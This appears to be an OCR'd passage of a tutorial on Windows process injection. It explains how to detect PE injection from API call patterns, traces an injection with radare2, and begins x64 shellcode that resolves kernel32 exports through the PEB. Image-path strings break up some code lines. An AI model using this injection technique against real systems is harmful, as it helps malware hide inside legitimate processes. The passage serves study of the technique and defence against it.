In general terms and of course depending a lot on the obfuscation implemented this easy to catch. You’ll basically need to find a suspicious secuence of VirtuaAllocEx, WriteProcessMemory and CreateRemoteThread or its NT equivalents.CreateToolHelp32SnapShot is always interesting to see in code:


Especially when it comes along with a loop browsing for processes and comparing them to specifically one.


Also the VirtualAllocEx called right after an OpenProcess should trigger an alarm:


And finally a WriteProcessMemory right before creating a thread.


When debugging we can simply put breakpoints in those:

[0x7ffe1f462630]> dcu entry0
Continue until 0x000214e0 using 1 bpsize
base addr should not be larger than the breakpoint address.
(5792) loading library at 0x00007FFE1F410000 (C:\Windows\System32\ntdll.dll) ntdll.dll
(5792) loading library at 0x00007FFE1E450000 (C:\Windows\System32\kernel32.dll) kernel32.dll
(5792) loading library at 0x00007FFE1CF20000 (C:\Windows\System32\KernelBase.dll) KernelBase.dll
(5792) loading library at 0x00007FFE19880000 (C:\Windows\System32\apphelp.dll) apphelp.dll
(5792) loading library at 0x00007FFE1D580000 (C:\Windows\System32\msvcrt.dll) msvcrt.dll
(5792) loading library at 0x00007FFE1EDB0000 (C:\Windows\System32\user32.dll) user32.dll
(5792) loading library at 0x00007FFE1D430000 (C:\Windows\System32\win32u.dll) win32u.dll
(5792) loading library at 0x00007FFE1D7A0000 (C:\Windows\System32\gdi32.dll) gdi32.dll
(5792) loading library at 0x00007FFE1D320000 (C:\Windows\System32\gdi32full.dll) gdi32full.dll
(5792) loading library at 0x00007FFE1CC40000 (C:\Windows\System32\msvcp_win.dll) msvcp_win.dll
(5792) loading library at 0x00007FFE1D1F0000 (C:\Windows\System32\ucrtbase.dll) ucrtbase.dllNote that as we’ll see later on, it is also interesting to breakpoint their NT equivalent calls.nth  paddr      vaddr          bind   type size lib                               name
1583 0x0003c080 0x7ffe1e48cc80 GLOBAL FUNC 0    KERNEL32.dll                      WriteProcessMemory
16   0x00081268 0x7ffe1e4d2868 NONE   FUNC 0    api-ms-win-core-memory-l1-1-0.dll imp.WriteProcessMemory
[0x7ffe1f4e06b1]> dmi KERNEL32 CreateRemoteThread

nth paddr      vaddr          bind   type size lib                                       name
235 0x00039f20 0x7ffe1e48ab20 GLOBAL FUNC 0    KERNEL32.dll                              CreateRemoteThread
28  0x00081600 0x7ffe1e4d2c00 NONE   FUNC 0    api-ms-win-core-processthreads-l1-1-0.dll imp.CreateRemoteThread
[0x7ffe1f4e06b1]> dmi KERNEL32 VirtualAllocEx

nth  paddr      vaddr          bind   type size lib                               name
1499 0x0003be20 0x7ffe1e48ca20 GLOBAL FUNC 0    KERNEL32.dll                      VirtualAllocEx7    0x00081220 0x7ffe1e4d2820 NONE   FUNC 0    api-ms-win-core-memory-l1-1-0.dll imp.VirtualAllocEx
[0x7ffe1f4e06b1]> dmi KERNEL32 OpenProcess

nth  paddr      vaddr          bind   type size lib                                       name
1043 0x0001a1e0 0x7ffe1e46ade0 GLOBAL FUNC 0    KERNEL32.dll                              OpenProcess
1    0x00081668 0x7ffe1e4d2c68 NONE   FUNC 0    api-ms-win-core-processthreads-l1-1-1.dll imp.OpenProcess

Another interesting point to take into account is to check for return values of OpenProcess and VirtuaAlloc calls, to note the process handles and the memory addresses used. Checking its status will simplify the analysis.

|           0x000215e8      b900000000     mov ecx, 0
|           0x000215ed      488b05b48c00.  mov rax, qword [sym.imp.KERNEL32.dll_GetModuleHandleA] ; [0x2a2a8:8]=0x7ffe1e46f0b0
|           0x000215f4      ffd0           call rax
|           ;-- rip:
|           0x000215f6 b    488985400100.  mov qword [rbp + 0x140], rax[0x000215c9]> dr rax

So as we see, calling GetModuleHandle without arguments returns the own base address.

|           0x00021632      89c0           mov eax, eax
|           0x00021634      41b904000000   mov r9d, 4
|           0x0002163a      41b800100000   mov r8d, 0x1000
|           0x00021640      4889c2         mov rdx, rax
|           0x00021643      b900000000     mov ecx, 0
|           0x00021648      488b05f18c00.  mov rax, qword [sym.imp.KERNEL32.dll_VirtualAlloc] ; [0x2a340:8]=0x7ffe1e468500
|           0x0002164f      ffd0           call rax
|           ;-- rip:
|           0x00021651 b    488985280100.  mov qword [rbp + 0x128], rax
[0x00021651]> dr rax

We can check that in memory, we’ll see that MZ.

[0x000216bc]> pxw 100 @ 0x00fc0000
0x00fc0000  0x00905a4d 0x00000003 0x00000004 0x0000ffff  MZ..............
0x00fc0010  0x000000b8 0x00000000 0x00000040 0x00000000  ........@.......
0x00fc0020  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x00fc0030  0x00000000 0x00000000 0x00000000 0x00000080  ................
0x00fc0040  0x0eba1f0e 0xcd09b400 0x4c01b821 0x685421cd  ........!..L.!Th
0x00fc0050  0x70207369 0x72676f72 0x63206d61 0x6f6e6e61  is program canno
0x00fc0060  0x65622074                                   t be

And at the same time we can move on and see how a SnapShot is called and processes are being listed:[0x000216bc]> dr
rflags = 0x00000211
rax = 0x013ff6e0
rcx = 0x000000cc
rdx = 0x013ff6e0
rbx = 0x00000008
rsp = 0x013ff6a0
rbp = 0x013ff720
rsi = 0x00000023
rdi = 0x019914f0

[0x000216bc]> pxw 300  @ 0x013ff6e0
0x013ff6e0  0x00000130 0x00000000 0x00000000 0x00000000  0...............0x013ff6f0  0x00000000 0x00000000 0x00000000 0x00000001  ................
0x013ff700  0x00000000 0x00000000 0x00000000 0x7379535b  ............[Sys
0x013ff710  0x206d6574 0x636f7250 0x5d737365 0x00000000  tem Process]....
0x013ff720  0xffffffff 0xffffffff 0x14070013 0x00000000  ................
0x013ff730  0x01992d01 0x00000000 0x1f4cccc2 0x00007ffe  .-........L.....
0x013ff740  0x01992dd0 0x00000000 0x1f54cd68 0x00007ffe  .-......h.T.....
0x013ff750  0x01990000 0x00000000 0x00000018 0x00000000  ................

Finally, we can also inspect the VirtualAllocEx / WriteProcessMemory to see how it firstly creates a buffer in a remote process, and then it maps the executable into it:

[0x000217a9]> dr rax
[0x000217a9]> db 0x0002194d[0x7ffe1f4b0861]> pxw @ 0x1a566060000
0x1a566060000  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060010  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060020  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060030  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060040  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060050  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060060  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060070  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060080  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060090  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a5660600a0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a5660600b0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a5660600c0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a5660600d0  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a5660600e0  0x00000000 0x00000000 0x00000000 0x00000000  ................0x1a5660600f0  0x00000000 0x00000000 0x00000000 0x00000000  ................
[0x7ffe1f4b0861]> pxw @ 0x1a566060000
0x1a566060000  0x00905a4d 0x00000003 0x00000004 0x0000ffff  MZ..............
0x1a566060010  0x000000b8 0x00000000 0x00000040 0x00000000  ........@.......
0x1a566060020  0x00000000 0x00000000 0x00000000 0x00000000  ................
0x1a566060030  0x00000000 0x00000000 0x00000000 0x00000080  ................
0x1a566060040  0x0eba1f0e 0xcd09b400 0x4c01b821 0x685421cd  ........!..L.!Th
0x1a566060050  0x70207369 0x72676f72 0x63206d61 0x6f6e6e61  is program canno
0x1a566060060  0x65622074 0x6e757220 0x206e6920 0x20534f44  t be run in DOS
0x1a566060070  0x65646f6d 0x0a0d0d2e 0x00000024 0x00000000  mode....$.......
0x1a566060080  0x00004550 0x00118664 0x630a4f06 0x0000dc00  PE..d....O.c....
0x1a566060090  0x00000533 0x002600f0 0x1e02020b 0x00002200  3.....&......"..
0x1a5660600a0  0x00004400 0x00000a00 0x000014e0 0x00001000  .D..............

Process Shellcode InjectionIf we are using PE injection, we’ll need a compiled executble and we’ll have to manually map it, this has pros and cons. Another way to run code abusing a remote process is by performing shellcode injection. In this case, we won’t be injection a full PE, instead we will injection shellcode only that is, a set of instructions which will be position independent, so no relocation will need to be done!

The con of this one is that, as we want our code to be position independent to avoid any relocations, we won’t have any .data section so we’ll need to encode / embed our data manually in the shellcode and we’ll also need to resolve the API calls ourselves (we won’t have any dll resolved).

The main challenge will be to resolve those APIs. In a compiled and linked program we are free to call VirtualAlloc if we have imported Windows.h because the program will known the address of VirtualAlloc in kernel32.dll. Some shellcode running in a remote thread of a legitimate process won’t have access to that, even if the host process has kernel32 loaded into it, because the address of VirtualAlloc for example, may be different in each execution / eachtime the OS starts. As the shellcode comes from “outside” of the program, it won’t have any reference to that. So we’ll need to write some ASM that calculates the addresses of the needed API calls.

The following code will do that, you may get a lot of examples both for x32 and x64 by googling “resolve kernel32 shellcode”.

In general terms, the code will parse the address of the PEB which can be retrieved from a fixed location and then parse theModuleList to retrieve the base address of the needed library (kernel32 in our case). Then routine will parse the library searching for the desired API call by its name. Generally speaking, we’ll only need to parse KERNEL32, mainly because LoadLibrary and GetProcessAddress are in it and can be used to load anything else we need.

The following code contains the shellcode we’ll inject into a remote process as an example, it will basically call WinExec to pop a calc.exe. Note that it is important to do some registry/stack saving / restoring before returning to the main thread! Or the program will crash.

; based on this one
; List of functions in kernel32
global WinMain

section .text
; we save the return address for later
; we should save the registers also...
pop r15
push r15

; Get kernel32.dll base address
; on an x64 syste, GS points to the TEB
; GS + 0x60 = PEB
; PEB_LDR_DATA -> Contains information about the loaded modules for the process.

xor rdi, rdi            ; RDI = 0x0
mul rdi                 ; RAX&RDX =0x0
mov rbx, gs:[rax+0x60]  ; RBX = Linear address of Process Environment Block (PEB)
mov rbx, [rbx+0x18]     ; RBX = Address_of_LDR
mov rbx, [rbx+0x20]     ; RBX = 1st entry in InitOrderModuleList / ntdll.dll
movrbx, [rbx]          ; RBX = 2nd entry in InitOrderModuleList / kernelbase.dll
mov rbx, [rbx]          ; RBX = 3rd entry in InitOrderModuleList / kernel32.dll
mov rbx, [rbx+0x20]     ; RBX = &kernel32.dll ( Base Address of kernel32.dll)
mov r8, rbx             ; RBX & R8 = &kernel32.dll

; Get kernel32.dll ExportTable Address
mov ebx, [rbx+0x3C]     ; RBX = Offset NewEXEHeader
add rbx, r8             ; RBX = &kernel32.dll + Offset NewEXEHeader = &NewEXEHeader
xor rcx, rcx            ; Avoid null bytes from mov edx,[rbx+0x88] by using rcxregister to add
add cx, 0x88ff
shr rcx, 0x8            ; RCX = 0x88ff --> 0x88
mov edx,[rbx+rcx]      ; EDX = [&NewEXEHeader + Offset RVA ExportTable] = RVA ExportTable
add rdx, r8             ; RDX = &kernel32.dll + RVA ExportTable = &ExportTable

; Get &AddressTable from Kernel32.dll ExportTable
xor r10, r10
mov r10d, [rdx+0x1C]    ;RDI = RVA AddressTable
add r10, r8             ; R10 = &AddressTable

; Get &NamePointerTable from Kernel32.dll ExportTable
xor r11, r11
mov r11d, [rdx+0x20]    ; R11 = [&ExportTable + Offset RVA Name PointerTable] = RVA NamePointerTable
add r11, r8             ; R11 = &NamePointerTable (Memory Address of Kernel32.dll ExportNamePointerTable)

; Get &OrdinalTable from Kernel32.dll ExportTable
xor r12, r12
mov r12d, [rdx+0x24]    ; R12 = RVA  OrdinalTable
add r12, r8             ; R12 = &OrdinalTable

jmp short apis

; Get the address of the API from the Kernel32.dll ExportTable
pop rbx                 ; save the return address for ret 2 caller after API address is found
pop rcx                 ; Get the string length counter from stack
